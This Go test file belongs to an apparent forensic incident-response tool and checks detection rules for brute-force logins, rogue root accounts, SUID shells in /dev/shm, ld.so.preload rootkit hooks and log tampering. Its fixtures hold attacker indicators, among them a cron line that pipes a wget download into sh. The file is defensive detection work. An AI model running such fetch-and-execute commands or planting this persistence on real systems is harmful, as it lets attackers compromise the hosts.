package findings

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/coldcase-dfir/coldcase/artifacts/binaries"
	"github.com/coldcase-dfir/coldcase/artifacts/journal"
	"github.com/coldcase-dfir/coldcase/artifacts/persistence"
	"github.com/coldcase-dfir/coldcase/artifacts/syslog"
	"github.com/coldcase-dfir/coldcase/artifacts/users"
	"github.com/coldcase-dfir/coldcase/artifacts/utmp"
	"github.com/coldcase-dfir/coldcase/timeline"
)

var t0 = time.Date(2026, 9, 12, 2, 0, 0, 0, time.UTC)

func ev(sec int, source, desc, user, ip string) timeline.Event {
	return timeline.Event{Time: t0.Add(time.Duration(sec) * time.Second), Source: source, TimestampDesc: desc, User: user, IP: ip,
		Evidence: timeline.Evidence{Path: "/var/log/auth.log", Line: int64(sec + 1)}}
}

func rules(fs []Finding) string {
	var r []string
	for _, f := range fs {
		r = append(r, f.Rule+"/"+f.Severity.String()+"/"+f.IP+f.User+f.Path)
	}
	return strings.Join(r, " ")
}

func TestBruteForceThenLogin(t *testing.T) {
	en := NewEngine()
	// Four failures from .9 (below the threshold), then a login: no finding.
	for i := 0; i < 4; i++ {
		en.Add(ev(i, "auth", "SSH login failed", "root", "198.51.100.9"))
	}
	en.Add(ev(10, "auth", "SSH login accepted", "root", "198.51.100.9"))
	// Ten failures from .66 in auth.log and btmp at the same seconds (counted once), then a login in auth and wtmp.
	for i := 0; i < 10; i++ {
		en.Add(ev(100+i*30, "auth", "SSH login failed", "root", "203.0.113.66"))
		en.Add(ev(100+i*30, "btmp", "Failed login", "root", "203.0.113.66"))
	}
	en.Add(ev(900, "auth", "SSH login accepted", "root", "203.0.113.66"))
	en.Add(ev(900, "wtmp", "Login", "root", "203.0.113.66"))
	// Failures spread over days never make a burst.
	for i := 0; i < 10; i++ {
		en.Add(ev(2000+i*7200, "auth", "SSH login failed", "bob", "192.0.2.1"))
	}
	en.Add(ev(2000+10*7200, "auth", "SSH login accepted", "bob", "192.0.2.1"))
	fs := en.Findings()
	got := rules(fs)
	if got != "bruteforce-then-login/high/203.0.113.66root" {
		t.Fatalf("findings %q", got)
	}
	if !strings.Contains(fs[0].Detail, "after 10 failed attempts") || len(fs[0].Evidence) != 2 {
		t.Errorf("detail %q evidence %v", fs[0].Detail, fs[0].Evidence)
	}
}

func TestLogGap(t *testing.T) {
	en := NewEngine()
	en.Add(ev(0, "syslog", "Log entry", "", ""))
	en.Add(ev(3600, "syslog", "Log entry", "", ""))
	en.Add(ev(3600+25*3600, "syslog", "Log entry", "", "")) // 25 h later
	e := ev(3600+26*3600, "fs", "Content Modification Time", "", "")
	en.Add(e)
	fs := en.Findings()
	if len(fs) != 1 || fs[0].Rule != "log-gap" || !strings.Contains(fs[0].Detail, "25h0m0s") {
		t.Fatalf("%+v", fs)
	}
}

func TestRecordRules(t *testing.T) {
	mtime := t0.Add(10 * time.Minute)
	recs := map[string]any{
		"users": &users.Report{
			Users: []users.User{
				{PasswdEntry: users.PasswdEntry{Name: "root", UID: 0}},
				{PasswdEntry: users.PasswdEntry{Name: "toor", UID: 0}, Flags: []string{users.FlagUID0}},
			},
			AuthorizedKeys: []users.AuthorizedKey{
				{File: "/root/.ssh/authorized_keys", User: "root", FileMeta: users.FileMeta{Mtime: mtime}},
				{File: "/root/.ssh/authorized_keys", User: "root", FileMeta: users.FileMeta{Mtime: mtime}},
				{File: "/home/old/.ssh/authorized_keys", User: "old", FileMeta: users.FileMeta{Mtime: t0.AddDate(-1, 0, 0)}},
			},
			Reference: t0.Add(time.Hour), RecentWindow: 30 * 24 * time.Hour,
		},
		"binaries": &binaries.Report{Flagged: []binaries.Binary{
			{Path: "/usr/bin/passwd", Flags: []string{binaries.FlagSUID}}, // packaged SUID: fine
			{Path: "/dev/shm/.x/sh", Flags: []string{binaries.FlagSUID, binaries.FlagTempDir, binaries.FlagHiddenPath}},
			{Path: "/usr/sbin/sshd", Flags: []string{binaries.FlagPackageMismatch}},
			{Path: "/home/u/tool", Flags: []string{binaries.FlagHomeDir, binaries.FlagNotPackaged}}, // not flagged by these rules
		}},
		"persistence": &persistence.Report{Entries: []persistence.Entry{
			{Kind: persistence.KindCron, File: "/etc/crontab", Command: "run-parts /etc/cron.daily"},
			{Kind: persistence.KindCron, File: "/var/spool/cron/crontabs/www-data", Command: "wget -q -O- http://x | sh", Indicators: []string{"download", "pipe_shell"}},
			{Kind: persistence.KindPreload, File: "/etc/ld.so.preload", Command: "/lib/libhide.so"},
			{Kind: persistence.KindService, File: "/etc/systemd/system/x.service", Command: "/var/tmp/x", Indicators: []string{"temp_path"}},
		}},
	}
	en := NewEngine()
	en.Records(recs)
	got := rules(en.Findings())
	for _, want := range []string{
		"extra-uid0/high/toor", "authorized-key-recent/high/root/root/.ssh/authorized_keys",
		"suid-unexpected/high//dev/shm/.x/sh", "executable-in-temp/high//dev/shm/.x/sh",
		"package-modified/high//usr/sbin/sshd", "ld-preload/high//etc/ld.so.preload",
		"persistence-fetch-exec/high//var/spool/cron/crontabs/www-data", "persistence-temp-path/high//etc/systemd/system/x.service",
	} {
		if !strings.Contains(got+" ", want+" ") {
			t.Errorf("missing %s in %s", want, got)
		}
	}
	for _, not := range []string{"/usr/bin/passwd", "/home/old", "/etc/crontab", "/home/u/tool"} {
		if strings.Contains(got, not) {
			t.Errorf("false positive %s in %s", not, got)
		}
	}
}

func TestSeverityJSON(t *testing.T) {
	b, _ := json.Marshal(Finding{Rule: "x", Severity: Medium})
	if !strings.Contains(string(b), `"severity":"medium"`) {
		t.Error(string(b))
	}
	var f Finding
	if err := json.Unmarshal(b, &f); err != nil || f.Severity != Medium {
		t.Error(f, err)
	}
	if _, err := ParseSeverity("critical"); err == nil {
		t.Error("unknown severity accepted")
	}
	if Worst(nil) != 0 || Worst([]Finding{{Severity: Low}, {Severity: High}}) != High {
		t.Error("Worst")
	}
}

// The brute-force state stays bounded under a spray from many addresses.
func TestBruteForceBounded(t *testing.T) {
	b := newBruteForce().(*bruteForce)
	for i := 0; i < 200000; i++ {
		e := ev(i, "auth", "SSH login failed", "root", fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255))
		b.add(&e)
	}
	if len(b.fails) > 1<<16 {
		t.Errorf("%d addresses kept", len(b.fails))
	}
}

func TestFutureTimes(t *testing.T) {
	en := NewEngine()
	en.Add(ev(0, "fs", "Content Modification Time", "", "")) // before any log: ordinary
	en.Add(ev(10, "auth", "SSH login accepted", "root", "192.0.2.1"))
	en.Add(ev(3600, "fs", "Content Modification Time", "", ""))    // within a day of the last log
	en.Add(ev(30*3600, "fs", "Content Modification Time", "", "")) // 30 h after: held
	en.Add(ev(31*3600, "syslog", "Log entry", "", ""))             // a later log clears it
	e := ev(100*3600, "fs", "Creation Time", "", "")
	e.Path = "/usr/bin/ls"
	en.Add(e)
	var fs []Finding
	for _, f := range en.Findings() {
		if f.Rule == "timestamp-in-future" {
			fs = append(fs, f)
		}
	}
	if len(fs) != 1 || fs[0].Path != "/usr/bin/ls" || !strings.Contains(fs[0].Detail, "69h0m0s after") {
		t.Fatalf("%+v", fs)
	}
}

func TestLogDamageAndEmptyWtmp(t *testing.T) {
	recs := map[string]any{
		"utmp": &utmp.Summary{Files: []utmp.FileSummary{
			{Path: "/var/log/wtmp", Source: "wtmp", Records: 0, Events: 0},
			{Path: "/var/log/btmp", Source: "btmp", Records: 10, Events: 9, Corrupt: 1, Trailing: 100},
			{Path: "/var/log/wtmp.1", Source: "wtmp", Records: 20, Events: 20},
		}},
		"journal": &journal.Summary{Files: []journal.FileSummary{
			{Path: "/var/log/journal/x/system.journal", Entries: 5, HeaderEntries: 90, Damage: "entry array at 0x1000 beyond EOF"},
			{Path: "/var/log/journal/x/user-1000.journal", Entries: 5, HeaderEntries: 5},
		}},
		"syslog": &syslog.Summary{Logins: []syslog.Login{{Time: t0, User: "root", IP: "203.0.113.66",
			Evidence: timeline.Evidence{Path: "/var/log/auth.log", Line: 3}}}},
	}
	en := NewEngine()
	en.Records(recs)
	got := rules(en.Findings())
	for _, want := range []string{"log-damaged/medium//var/log/btmp", "log-damaged/medium//var/log/journal/x/system.journal", "wtmp-empty/medium//var/log/wtmp"} {
		if !strings.Contains(got+" ", want+" ") {
			t.Errorf("missing %s in %s", want, got)
		}
	}
	for _, not := range []string{"wtmp.1", "user-1000"} {
		if strings.Contains(got, not) {
			t.Errorf("false positive %s in %s", not, got)
		}
	}
	// Without logins in the auth log, an empty wtmp is just unused.
	delete(recs, "syslog")
	en = NewEngine()
	en.Records(recs)
	if strings.Contains(rules(en.Findings()), "wtmp-empty") {
		t.Error("wtmp-empty without logins")
	}
}
